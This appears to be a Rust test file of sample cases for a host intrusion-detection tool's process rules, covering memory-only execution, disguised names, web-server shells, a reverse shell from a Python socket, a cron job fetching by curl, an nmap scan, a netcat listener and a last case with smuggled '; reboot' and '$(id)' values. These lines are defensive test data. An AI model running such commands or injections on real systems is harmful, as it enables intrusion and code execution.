//! What rules over processes found.

use finding::{EntityType, FindingKind, fact};

use super::{Case, case};

fn of(name: &'static str, kind: FindingKind, rule: &str) -> Case {
    case(name, kind, rule).host("gate")
}

pub(super) fn cases() -> Vec<Case> {
    vec![
        of("from memory", FindingKind::ProcessNoExecutable, "process_in_memory")
            .about(EntityType::Process, "/memfd:x")
            .user("ann")
            .facts(fact::PROCESS_IDS, &["4711"])
            .facts(fact::COMMAND_LINES, &["/memfd:x -c read line"])
            .facts(fact::PARENTS, &["python3 run.py"])
            .facts(fact::FILES, &["/memfd:x"]),
        of("deleted", FindingKind::ProcessNoExecutable, "process_deleted").times(2, 59),
        of("overwritten", FindingKind::ProcessChangedExecutable, "process_overwritten")
            .facts(fact::PROCESS_IDS, &["4711"])
            .facts(fact::FILES, &["/opt/app/bin/app"]),
        of("a service's name", FindingKind::ProcessDuplicateName, "process_system_name")
            .facts(fact::FILES, &["/home/ann/sshd"])
            .earlier(1, 1, "2024-04-28T10:00:00Z"),
        of("a similar name", FindingKind::ProcessDuplicateName, "process_similar_name")
            .facts(fact::FILES, &["/home/ann/ssshd"])
            .facts(fact::REASONS, &["sshd"]),
        of("a thread of the kernel", FindingKind::ProcessMasquerade, "process_like_kernel")
            .facts(fact::COMMAND_LINES, &["[kworker]"]),
        of("a web server", FindingKind::ProcessUnusualParent, "process_server_shell")
            .user("www-data")
            .facts(fact::COMMAND_LINES, &["sh -c id", "sh -c \"uname -a\""])
            .facts(fact::PARENTS, &["nginx: worker process"]),
        of("a document", FindingKind::ProcessUnusualParent, "process_office_shell"),
        of("what it never started", FindingKind::ProcessUnusualParent, "process_unusual_child")
            .facts(fact::PARENTS, &["/usr/lib/postfix/sbin/master"])
            .facts(fact::USUAL_PROGRAMS, &["smtpd", "qmgr"])
            .fact(fact::USUAL_STARTS, 412),
        of("a schedule", FindingKind::ProcessUnusualParent, "process_cron_network")
            .facts(fact::COMMAND_LINES, &["curl -s http://198.51.100.7/x"]),
        of("from an open folder", FindingKind::ProcessFromTemp, "process_from_open_folder")
            .facts(fact::FILES, &["/dev/shm/x"])
            .facts(fact::PROCESS_IDS, &["4711", "4712"]),
        of("with rights", FindingKind::SuidExecuted, "process_set_uid").facts(fact::FILES, &["/home/ann/sh"]),
        of("traced", FindingKind::ProcessTraced, "process_traced").facts(fact::REASONS, &["gdb"]),
        of("a shell", FindingKind::ReverseShell, "process_network_shell")
            .facts(fact::PROCESS_IDS, &["4711"])
            .facts(fact::COMMAND_LINES, &["/bin/sh -i"])
            .facts(fact::PARENTS, &["python3 -c import socket"]),
        of("a strange start", FindingKind::Anomaly, "process_strange_start")
            .user("www-data")
            .facts(fact::PROCESS_IDS, &["4711"])
            .facts(fact::COMMAND_LINES, &["/usr/bin/nmap -sS 192.0.2.0/24"])
            .facts(fact::REASONS, &["program", "user", "hour"])
            .fact(fact::SCORE, 0.74),
        of("computes", FindingKind::ProcessResources, "process_processor")
            .user("ann")
            .facts(fact::PROCESS_IDS, &["4711"])
            .facts(fact::COMMAND_LINES, &["/home/ann/x -o pool"])
            .facts(fact::FILES, &["/home/ann/x"])
            .fact(fact::TAKES, 390)
            .fact(fact::USUAL_AMOUNT, 12)
            .fact(fact::USUAL_LOOKS, 433),
        of("memory", FindingKind::ProcessResources, "process_memory")
            .facts(fact::FILES, &["/usr/sbin/mysqld"])
            .fact(fact::TAKES, 6120)
            .fact(fact::USUAL_AMOUNT, 1480)
            .fact(fact::USUAL_LOOKS, 512),
        of("a port", FindingKind::ProcessNewListener, "process_listens")
            .facts(fact::FILES, &["/usr/bin/nc.openbsd"])
            .facts(fact::LISTENING, &["tcp 0.0.0.0:4444"]),
        of("hostile", FindingKind::ProcessFromTemp, "process_from_open_folder")
            .facts(fact::PROCESS_IDS, &["1; reboot"])
            .facts(fact::COMMAND_LINES, &["\u{1b}[2J<b>x</b>\n$(id)"]),
    ]
}
